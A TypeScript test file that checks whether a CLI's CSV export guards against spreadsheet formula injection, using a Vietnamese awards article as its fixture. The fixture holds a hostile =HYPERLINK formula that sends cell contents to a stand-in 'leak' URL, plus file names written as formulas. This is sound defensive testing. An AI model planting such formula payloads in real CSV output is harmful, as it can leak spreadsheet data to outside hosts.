// Spreadsheet safety of the CSV, through the built CLI: no cell may start with = + - @, a tab
// or a carriage return (a spreadsheet would read it as a formula); such a cell gets a leading
// apostrophe (src/write/csv-safe.ts). --bom starts the output with EF BB BF, and only then.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { dvk, lines, parseCsv, tempDir } from '../support/cli.js';

const FORMULA_START = /^[=+\-@\t\r]/u;

// A hostile headline, bullet lines and a named recipient that start with formula characters
const ARTICLE = [
  '=HYPERLINK("http://example.invalid/?leak="&A1,"Tuyên dương điển hình Dân vận khéo")',
  '',
  'Ngày 13/10/2020, Huyện ủy Tân Phú tổ chức hội nghị tuyên dương điển hình “Dân vận khéo” năm 2020. Dịp này, UBND huyện tặng Giấy khen cho các tập thể, cá nhân sau:',
  '- 15 tập thể được tặng Giấy khen của Chủ tịch UBND huyện.',
  '+ 12 cá nhân được tặng Giấy khen của Chủ tịch UBND huyện.',
  '@ 3 hộ gia đình được tặng Giấy khen của Chủ tịch UBND huyện.',
  '\t7 cá nhân được tuyên dương điển hình “Dân vận khéo” cấp huyện.',
  'Tham dự có ông Nguyễn Văn An, Chủ tịch UBND huyện.',
  '',
].join('\r\n');

describe('CSV safety (built CLI)', () => {
  const dir = tempDir();
  const file = join(dir, 'hostile.txt');
  writeFileSync(file, ARTICLE);
  // the file column carries the path as given: a file name can be a formula too
  for (const name of ['=1+1.txt', '@SUM(A1).txt', '+1.txt']) writeFileSync(join(dir, name), ARTICLE);

  it.each([['awards'], ['officials'], ['articles']])('--table %s: no cell starts with = + - @ tab or CR; the risky ones are kept behind an apostrophe', (table) => {
    const r = dvk(['extract', '--table', table, 'hostile.txt', '=1+1.txt', '@SUM(A1).txt', '+1.txt'], { cwd: dir });
    expect(r.status).toBe(0);
    expect(lines(r.stderr)).toEqual([]);
    const rows = parseCsv(r.stdout);
    expect(rows.length).toBeGreaterThan(1);
    const cells = rows.flat();
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(["'=1+1.txt", "'@SUM(A1).txt", "'+1.txt", 'hostile.txt']));
    if (table !== 'officials') expect(cells).toContain(`'=HYPERLINK("http://example.invalid/?leak="&A1,"Tuyên dương điển hình Dân vận khéo")`);
  });

  it('the bullet lines are awards whose evidence keeps its text after the apostrophe', () => {
    const r = dvk(['extract', file]);
    const [header, ...rows] = parseCsv(r.stdout);
    const evidence = rows.map((row) => row[header!.indexOf('evidence')]!);
    expect(evidence).toEqual(expect.arrayContaining([
      "'- 15 tập thể được tặng Giấy khen của Chủ tịch UBND huyện.",
      "'+ 12 cá nhân được tặng Giấy khen của Chủ tịch UBND huyện.",
    ]));
    // numbers are left as numbers
    for (const row of rows) expect(row[header!.indexOf('count')]).toMatch(/^\d+$/u);
  });

  it('the JSON keeps the text as written: the apostrophe is for spreadsheets only', () => {
    const r = dvk(['extract', '--format', 'json', file]);
    const [record] = JSON.parse(r.stdout) as Array<{ title: string; awards: Array<{ evidence: { text: string } }> }>;
    expect(record!.title.startsWith('=HYPERLINK(')).toBe(true);
    expect(record!.awards.map((a) => a.evidence.text)).toContain('- 15 tập thể được tặng Giấy khen của Chủ tịch UBND huyện.');
  });

  it('--bom starts the CSV with the UTF-8 byte-order mark EF BB BF; without it there is none', () => {
    const withBom = dvk(['extract', '--bom', file]);
    expect([...withBom.stdoutBytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(withBom.stdoutBytes.subarray(3, 7).toString('utf8')).toBe('file');
    const without = dvk(['extract', file]);
    expect([...without.stdoutBytes.subarray(0, 4)]).toEqual([...Buffer.from('file')]);
    expect(without.stdoutBytes.includes(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    expect(withBom.stdoutBytes.subarray(3).equals(without.stdoutBytes)).toBe(true);
  });

  it('--bom with -o FILE writes the mark into the file', () => {
    const out = join(dir, 'out.csv');
    const r = dvk(['extract', '--bom', '-o', out, file]);
    expect(r.status).toBe(0);
    expect(r.stdout).toBe('');
    const bytes = dvk(['extract', '--bom', file]).stdoutBytes;
    expect(readFileSync(out).equals(bytes)).toBe(true);
  });
});
